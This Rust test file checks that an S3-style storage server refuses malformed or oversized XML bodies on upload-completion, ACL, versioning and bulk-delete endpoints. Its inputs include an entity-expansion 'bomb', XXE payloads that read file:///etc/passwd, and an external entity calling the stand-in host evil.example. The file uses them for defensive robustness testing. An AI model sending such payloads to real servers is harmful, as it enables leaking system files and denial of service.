//! Documents that are none, or not the one that is asked for.

use super::cases::Case;
use crate::harness::Server;

pub(super) fn add(server: &Server, upload: &str, cases: &mut Vec<Case>) {
    let documents = documents();
    let complete = format!("/up?uploadId={upload}");
    for (name, document) in &documents {
        for call in [
            server.post(&complete, document),
            server.put("/?acl", document),
            server.put("/k?acl", document),
            server.put("/?versioning", document),
        ] {
            cases.push(Case::refused(format!("document {name}"), &call));
        }
        let delete = server
            .post("/?delete", document)
            .header("Content-MD5", crate::harness::content_md5(document));
        // A key that cannot be is told within the answer.
        let is_list = document.starts_with(b"<Delete><Object><Key>");
        let case = if is_list {
            Case::harmless
        } else {
            Case::refused
        };
        cases.push(case(format!("delete document {name}"), &delete));
    }
    // As one chunk without a length, and larger than allowed in both ways.
    for (path, bytes) in [
        (complete.as_str(), 2 << 20),
        ("/?acl", 1 << 20),
        ("/?versioning", 1 << 20),
    ] {
        let method = if path.contains("uploadId") {
            "POST"
        } else {
            "PUT"
        };
        let large = format!("<a>{}</a>", " ".repeat(bytes));
        cases.push(Case::refused(
            format!("{bytes} bytes to {path}"),
            &server.call(method, path).body(&large),
        ));
        let call = server
            .call(method, path)
            .header("Transfer-Encoding", "chunked");
        let mut sent = call.written_head("close");
        sent.extend_from_slice(format!("{:x}\r\n{large}\r\n0\r\n\r\n", large.len()).as_bytes());
        cases.push(Case::raw(
            format!("{bytes} bytes in a chunk to {path}"),
            sent,
        ));
    }
    lists(server, upload, cases);
}

fn documents() -> Vec<(String, Vec<u8>)> {
    let bomb = {
        let mut text = String::from("<!DOCTYPE l [<!ENTITY a0 \"lol\">");
        for n in 1..10 {
            text.push_str(&format!(
                "<!ENTITY a{n} \"{}\">",
                format!("&a{};", n - 1).repeat(10)
            ));
        }
        format!("{text}]><Delete>&a9;</Delete>")
    };
    let texts = [
        "<",
        ">",
        "<>",
        "</>",
        "<a",
        "<a>",
        "</a>",
        "<a></b>",
        "<a/><b/>",
        "<a/>x",
        "x<a/>",
        "text",
        "{}",
        "[]",
        "null",
        "\u{feff}",
        "   ",
        "<?xml?>",
        "<?xml version=\"1.0\"?>",
        "<!-- c -->",
        "<!-- <a/> -->",
        "<![CDATA[x]]>",
        "<a>&lol;</a>",
        "<a>&#0;</a>",
        "<a>&#xD800;</a>",
        "<a>&#x110000;</a>",
        "<a>&#-1;</a>",
        "<a>&</a>",
        "<a>&amp</a>",
        "<a b></a>",
        "<a b=c></a>",
        "<a b='1' b='2'/>",
        "<a 1='2'/>",
        "<1/>",
        "<a><a><a>",
        "<a>\u{0}</a>",
        "<a>]]></a>x",
        "<?a",
        "<!DOCTYPE a><a/>",
        "<!DOCTYPE a SYSTEM \"file:///etc/passwd\"><a/>",
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
        "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.example/\"> %x;]><a/>",
        "<Delete/>",
        "<CompleteMultipartUpload/>",
        "<VersioningConfiguration/>",
        "<Delete><Object/></Delete>",
        "<Delete><Object><Key></Key></Object></Delete>",
        "<CompleteMultipartUpload><Part/></CompleteMultipartUpload>",
        "<VersioningConfiguration><Status>x</Status></VersioningConfiguration>",
        "<VersioningConfiguration><Status>Enabled</Status><Status>Suspended</Status></VersioningConfiguration>",
        "<AccessControlPolicy><Owner/></AccessControlPolicy>",
        "<AccessControlPolicy><AccessControlList><Grant/></AccessControlList></AccessControlPolicy>",
        "<AccessControlPolicy><AccessControlList><Grant><Grantee/><Permission>X</Permission></Grant></AccessControlList></AccessControlPolicy>",
        "<unknown><b/></unknown>",
        "<x:Delete xmlns:x='u'/>",
        "<Tagging/>",
        "<CORSConfiguration/>x",
        "<LifecycleConfiguration><",
    ];
    let mut all: Vec<(String, Vec<u8>)> = texts
        .iter()
        .map(|text| (format!("{text:.60}"), text.as_bytes().to_vec()))
        .collect();
    all.push(("a bomb".to_owned(), bomb.into_bytes()));
    for depth in [17, 100, 10_000] {
        all.push((
            format!("{depth} deep"),
            format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth)).into_bytes(),
        ));
    }
    all.push((
        "many attributes".to_owned(),
        format!(
            "<a{}/>",
            (0..1000).map(|n| format!(" a{n}=''")).collect::<String>()
        )
        .into_bytes(),
    ));
    all.push((
        "a long name".to_owned(),
        format!("<{}/>", "a".repeat(50_000)).into_bytes(),
    ));
    all.push(("not UTF-8".to_owned(), b"<a>\xff\xfe</a>".to_vec()));
    all.push((
        "UTF-16".to_owned(),
        "<Delete/>"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect(),
    ));
    all.push((
        "UTF-7".to_owned(),
        b"<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-a/+AD4-".to_vec(),
    ));
    all
}

/// Lists of parts and of keys that are no lists of these.
fn lists(server: &Server, upload: &str, cases: &mut Vec<Case>) {
    let part = |number: &str, tag: &str| {
        format!("<Part><PartNumber>{number}</PartNumber><ETag>{tag}</ETag></Part>")
    };
    let good = "d41d8cd98f00b204e9800998ecf8427e";
    let mut lists = vec![
        part("1", good).repeat(2),
        format!("{}{}", part("2", good), part("1", good)),
        part("1", ""),
        part("", good),
        "<Part><PartNumber>1</PartNumber></Part>".to_owned(),
        format!("<Part><ETag>{good}</ETag></Part>"),
        format!(
            "<Part><PartNumber>1</PartNumber><PartNumber>1</PartNumber><ETag>{good}</ETag></Part>"
        ),
    ];
    for number in [
        "0",
        "-1",
        "10001",
        "x",
        "1.5",
        "99999999999999999999",
        "1 1",
        "0x1",
    ] {
        lists.push(part(number, good));
    }
    for tag in ["x", "\"", "&quot;&quot;", "W/\"x\"", "*", good] {
        lists.push(part("1", tag));
        lists.push(part("2", tag));
    }
    lists.push((1..=10_001).map(|n| part(&n.to_string(), good)).collect());
    for (n, list) in lists.iter().enumerate() {
        let document = format!("<CompleteMultipartUpload>{list}</CompleteMultipartUpload>");
        let complete = server.post(&format!("/up?uploadId={upload}"), document);
        cases.push(Case::refused(format!("list of parts {n}"), &complete));
    }
    let object = |key: &str| format!("<Object><Key>{key}</Key></Object>");
    let keys = [
        object(""),
        object(&"k".repeat(20_000)),
        object("none").repeat(1001),
        "<Object><VersionId>x</VersionId></Object>".to_owned(),
        "<Object><Key>a</Key><Key>k</Key></Object>".to_owned(),
        format!("<Quiet>x</Quiet>{}", object("none")),
        format!("<Quiet>true</Quiet><Quiet>false</Quiet>{}", object("none")),
    ];
    for (n, list) in keys.iter().enumerate() {
        let document = format!("<Delete>{list}</Delete>");
        let digest = crate::harness::content_md5(document.as_bytes());
        let delete = server
            .post("/?delete", document)
            .header("Content-MD5", digest);
        cases.push(Case::harmless(format!("list of keys {n}"), &delete));
    }
    let document = format!("<Delete>{}</Delete>", object("k"));
    for digest in ["", "x", "AAAA", "1B2M2Y8AsgTpgAmY7PhCfg=="] {
        let delete = server
            .post("/?delete", &document)
            .header("Content-MD5", digest);
        if !digest.is_empty() {
            cases.push(Case::refused(
                format!("delete with digest {digest}"),
                &delete,
            ));
        }
    }
}
